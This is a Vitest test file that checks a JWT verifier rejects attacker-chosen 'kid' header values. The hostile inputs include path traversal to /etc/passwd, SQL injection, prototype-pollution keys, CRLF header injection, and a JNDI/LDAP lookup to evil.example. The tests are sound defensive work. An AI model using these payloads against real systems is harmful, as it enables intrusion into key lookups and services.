import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { type Exchange, generateKeyPair } from '../support/exchange.ts'
import { Siege } from '../support/siege.ts'

/** The attacker writes the `kid`, which looks up a key. */
let siege: Siege
let exchange: Exchange

beforeAll(async () => {
  siege = await Siege.start()
  exchange = siege.exchange
})
afterAll(() => siege.close())

describe('kid', () => {
  it.each([
    '../../../../etc/passwd',
    '/dev/null',
    'https://evil.example/keys',
    "x' UNION SELECT 'key' --",
    '__proto__',
    'constructor',
    'toString',
    'hasOwnProperty',
    '0',
    'length',
    'issuer-key\u0000',
    ' issuer-key',
    'ISSUER-KEY',
    'ES256:issuer-key',
    'issuer-key:https://evil.example',
    'https://evil.example|issuer-key|ES256',
    'issuer‑key',
    'k'.repeat(8000),
    '😀',
    '$\u007bjndi:ldap://evil.example}',
    'a\r\nSet-Cookie: x=y',
  ])('%j finds no key and breaks nothing [8725-3.10] [7515-5.3]', async (kid) => {
    const attacker = generateKeyPair('ES256', kid)
    await siege.refuses(siege.withToken({ key: attacker }), 'token_key_unknown')
  })

  it.each<unknown>([null, 0, 5, true, '', [], ['issuer-key'], {}, { toString: 'issuer-key' }])(
    '%j is no kid [7515-4.1.4]',
    async (kid) => {
      await siege.refuses(siege.withToken({ header: { kid } }), 'token_claims_invalid')
    },
  )

  it('that is absent finds the keys that fit, and the attacker’s is not among them', async () => {
    await siege.allows(siege.withToken({ header: { kid: undefined } }))
    const key = generateKeyPair()
    await siege.refuses(siege.withToken({ key, header: { kid: undefined } }), 'token_signature_invalid')
  })

  it('leads nowhere outside the issuer', async () => {
    expect(new Set(exchange.requests)).toEqual(new Set(['/.well-known/oauth-authorization-server', '/jwks']))
  })
})
